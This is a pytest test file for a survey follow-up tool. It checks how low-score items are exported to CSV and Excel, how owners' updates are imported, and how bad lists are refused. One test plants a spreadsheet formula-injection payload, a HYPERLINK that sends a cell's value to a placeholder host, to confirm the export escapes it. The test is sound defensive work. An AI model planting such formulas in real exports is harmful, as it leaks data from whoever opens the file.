"""Closing the loop: export the follow-up list, import the owners' updates, refuse bad lists.

A small project is built in a temporary folder from the demo's kotiposti rows, so the
list's contents can be checked against the rule computed here independently: current
wave, ``contact_ok`` true, and NPS 0–6 or CSAT 1–2 or CES 1–3.
"""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

from cxresearch import cli
from cxresearch.csv_text import FORMULA_STARTS, read_csv, write_csv
from cxresearch.data import load_responses
from cxresearch.errors import DataError, ParamsError
from cxresearch.journey.loop import export_list, import_list, loop_files, read_status
from cxresearch.params import load_params

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "data" / "demo"

PARAMS = """\
client: kotiposti
title: Kotiposti
language: fi
data: {path: data/responses.csv, filter: {client: kotiposti}}
waves: {current: 2026Q3, previous: [2026Q2]}
journey:
  metrics: [{name: nps, level: experience}]
  loop:
    sla_hours: 48
    owners: {delivery: Kuljetus, support: Asiakaspalvelu}
    default_owner: CX
    contacts: {path: data/contacts.csv, columns: [name, email, phone]}
"""


@pytest.fixture()
def project(tmp_path: Path) -> Path:
    (tmp_path / "data").mkdir()
    (tmp_path / "params").mkdir()
    rows = pd.read_csv(DEMO / "responses.csv", dtype=str, keep_default_na=False)
    rows = rows[rows["client"] == "kotiposti"]
    rows.to_csv(tmp_path / "data" / "responses.csv", index=False)
    shutil.copy(DEMO / "contacts" / "kotiposti.csv", tmp_path / "data" / "contacts.csv")
    (tmp_path / "params" / "kotiposti.yaml").write_text(PARAMS, encoding="utf-8")
    return tmp_path


def expected_items(project: Path) -> pd.DataFrame:
    frame = load_responses(project / "data" / "responses.csv")
    current = frame[frame["wave"] == "2026Q3"]
    low = (
        (current["nps"] <= 6).fillna(False)
        | (current["csat"] <= 2).fillna(False)
        | (current["ces"] <= 3).fillna(False)
    )
    return current[low & current["contact_ok"].fillna(False)]


def test_export_writes_the_list_outside_reports(project: Path) -> None:
    params = project / "params" / "kotiposti.yaml"
    written = export_list(params)
    folder = project / "followup" / "kotiposti"
    assert written == [folder / "followup-2026Q3.csv", folder / "followup-2026Q3.xlsx"]
    listed = pd.read_csv(written[0], dtype=str, keep_default_na=False)
    want = expected_items(project)
    assert listed["response_id"].tolist() == want["response_id"].tolist()
    assert set(listed["status"]) == {"open"}
    # Owner after the touchpoint; due date = answer + 48 h.
    first = want.iloc[0]
    row = listed.iloc[0]
    owner = {"delivery": "Kuljetus", "support": "Asiakaspalvelu"}.get(first["touchpoint"], "CX")
    assert row["owner"] == owner
    due = first["submitted_at"] + pd.Timedelta(hours=48)
    assert row["due_at"] == due.strftime("%Y-%m-%d %H:%M")
    # Contact details come from the contacts file by respondent id.
    contacts = pd.read_csv(project / "data" / "contacts.csv", dtype=str).set_index("respondent_id")
    assert row["email"] == contacts.loc[row["respondent_id"], "email"]
    assert "detractor" in set(";".join(listed["reasons"]).split(";"))
    excel = pd.read_excel(written[1], sheet_name=None, dtype=str)
    assert set(excel) == {"followup", "instructions"}
    assert excel["followup"]["response_id"].tolist() == listed["response_id"].tolist()


def closed(listed: pd.DataFrame, n: int, *, hours: float = 30) -> pd.DataFrame:
    out = listed.copy()
    submitted = pd.to_datetime(out["submitted_at"])
    out.loc[out.index[:n], "status"] = "closed"
    out.loc[out.index[:n], "action"] = "Soitettu, hyvitetty 10 €"
    stamps = (submitted + pd.Timedelta(hours=hours)).dt.strftime("%Y-%m-%d %H:%M")
    out.loc[out.index[:n], "closed_at"] = stamps[:n]
    return out


def test_import_round_trip_keeps_previous_statuses(project: Path) -> None:
    params_path = project / "params" / "kotiposti.yaml"
    csv_path = export_list(params_path)[0]
    listed = pd.read_csv(csv_path, dtype=str, keep_default_na=False)
    first = closed(listed, 5)
    first.to_csv(project / "update1.csv", index=False)
    result = import_list(project / "update1.csv", params_path=params_path)
    assert (result.rows, result.changed, result.closed, result.kept) == (len(listed), 5, 5, None)
    files = loop_files(load_params(params_path))
    status = read_status(files.status)
    assert (status["status"] == "closed").sum() == 5
    assert "email" not in status.columns and "comment" not in status.columns
    # A second import (from Excel) keeps the first status file in history/.
    second = closed(listed, 8)
    second.loc[second.index[8], "status"] = "in_progress"
    with pd.ExcelWriter(project / "update2.xlsx") as writer:
        second.to_excel(writer, index=False)
    result = import_list(project / "update2.xlsx", params_path=params_path)
    assert result.changed == 4 and result.kept is not None
    assert read_status(result.kept)["status"].eq("closed").sum() == 5
    assert read_status(files.status)["status"].eq("closed").sum() == 8
    # Exported again, the list carries the owners' work.
    again = pd.read_csv(export_list(params_path)[0], dtype=str, keep_default_na=False)
    assert again["status"].eq("closed").sum() == 8
    assert again.loc[0, "action"] == "Soitettu, hyvitetty 10 €"


@pytest.mark.parametrize(
    ("edit", "column", "message"),
    [
        (lambda t: t.assign(response_id=["KP-2026Q3-999999", *t["response_id"][1:]]),
         "response_id", "not a follow-up item of this client"),
        (lambda t: t.assign(status=["done", *t["status"][1:]]), "status", "status must be one of"),
        (lambda t: closed(t, 2, hours=-3), "closed_at", "closed before the customer answered"),
        (lambda t: t.assign(status=["closed", *t["status"][1:]]), "closed_at",
         "a closed item needs its closed date"),
        (lambda t: t.assign(closed_at=["yesterday", *t["closed_at"][1:]]), "closed_at",
         "must hold dates"),
        (lambda t: pd.concat([t, t.iloc[:1]]), "response_id", "listed more than once"),
    ],
)  # fmt: skip
def test_bad_lists_are_refused_naming_file_column_and_rows(
    project: Path, edit: object, column: str, message: str
) -> None:
    params_path = project / "params" / "kotiposti.yaml"
    listed = pd.read_csv(export_list(params_path)[0], dtype=str, keep_default_na=False)
    closed(listed, 1).to_csv(project / "good.csv", index=False)
    import_list(project / "good.csv", params_path=params_path)
    status_file = loop_files(load_params(params_path)).status
    before = status_file.read_bytes()
    bad = edit(listed)  # type: ignore[operator]
    bad.to_csv(project / "bad.csv", index=False)
    with pytest.raises(DataError) as info:
        import_list(project / "bad.csv", params_path=params_path)
    text = str(info.value)
    assert str(project / "bad.csv") in text and f"column {column!r}" in text
    assert message in text and re.search(r"row \d+ \('KP-", text)
    assert status_file.read_bytes() == before  # nothing written on a refused import


def test_missing_work_columns_are_named(project: Path) -> None:
    params_path = project / "params" / "kotiposti.yaml"
    listed = pd.read_csv(export_list(params_path)[0], dtype=str, keep_default_na=False)
    listed.drop(columns=["closed_at"]).to_csv(project / "bad.csv", index=False)
    with pytest.raises(DataError, match=r"column\(s\) \['closed_at'\] missing"):
        import_list(project / "bad.csv", params_path=params_path)


def test_client_is_read_from_the_list(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(project)
    csv_path = export_list(Path("params/kotiposti.yaml"))[0]
    assert import_list(csv_path).rows > 0


@pytest.mark.parametrize("folder", ["reports/kotiposti", "../outside"])
def test_folder_inside_reports_or_outside_the_project_is_refused(
    project: Path, folder: str
) -> None:
    path = project / "params" / "kotiposti.yaml"
    path.write_text(PARAMS + f"    folder: {folder}\n", encoding="utf-8")
    with pytest.raises(ParamsError, match="journey.loop.folder"):
        export_list(path)


def test_cli_export_and_import(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    params_path = project / "params" / "kotiposti.yaml"
    assert cli.main(["loop", "export", str(params_path)]) == 0
    out = capsys.readouterr().out
    assert "followup-2026Q3.csv" in out and "followup-2026Q3.xlsx" in out
    listed = project / "followup" / "kotiposti" / "followup-2026Q3.csv"
    assert cli.main(["loop", "import", str(listed), "--params", str(params_path)]) == 0
    assert "imported" in capsys.readouterr().out
    bad = pd.read_csv(listed, dtype=str, keep_default_na=False)
    bad.loc[0, "status"] = "maybe"
    bad.to_csv(project / "bad.csv", index=False)
    assert cli.main(["loop", "import", str(project / "bad.csv"), "--params", str(params_path)]) == 2
    assert "status must be one of" in capsys.readouterr().err


def test_no_loop_section_is_a_params_error(project: Path) -> None:
    path = project / "params" / "kotiposti.yaml"
    path.write_text(PARAMS.split("  loop:")[0], encoding="utf-8")
    with pytest.raises(ParamsError, match="no journey.loop section"):
        export_list(path)


def test_unknown_status_configuration_is_refused(project: Path) -> None:
    path = project / "params" / "kotiposti.yaml"
    path.write_text(PARAMS + "    closed: [finished]\n", encoding="utf-8")
    with pytest.raises(ParamsError, match=r"\['finished'\] are not among the statuses"):
        load_params(path)


def test_followup_csv_guards_formula_like_text_and_reads_it_back(project: Path) -> None:
    """A comment that a spreadsheet would run is written as text and imported back as given."""
    payload = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    root = project
    rows = pd.read_csv(root / "data" / "responses.csv", dtype=str, keep_default_na=False)
    params_path = root / "params" / "kotiposti.yaml"
    first_id = expected_items(root)["response_id"].iloc[0]
    rows.loc[rows["response_id"] == first_id, "comment"] = payload
    rows.to_csv(root / "data" / "responses.csv", index=False)
    csv_path = export_list(params_path)[0]
    with csv_path.open(encoding="utf-8", newline="") as handle:
        raw = list(csv.reader(handle))
    header = raw[0]
    by_id = {row[header.index("response_id")]: row for row in raw[1:]}
    assert by_id[first_id][header.index("comment")] == "'" + payload
    assert not [c for row in raw[1:] for c in row if c.startswith(FORMULA_STARTS)]
    # An owner writes an action that starts with "-" and saves the list as CSV (a
    # spreadsheet keeps the apostrophe it shows); the stored action is the owner's text.
    listed = read_csv(csv_path)
    assert listed.loc[listed["response_id"] == first_id, "comment"].item() == payload
    update = closed(listed, 1)
    update.loc[update.index[0], "action"] = "-soitettu, =hyvitetty"
    write_csv(update, root / "update.csv")
    import_list(root / "update.csv", params_path=params_path)
    status = read_status(loop_files(load_params(params_path)).status)
    stored = status.set_index("response_id").loc[update["response_id"].iloc[0], "action"]
    assert stored == "-soitettu, =hyvitetty"
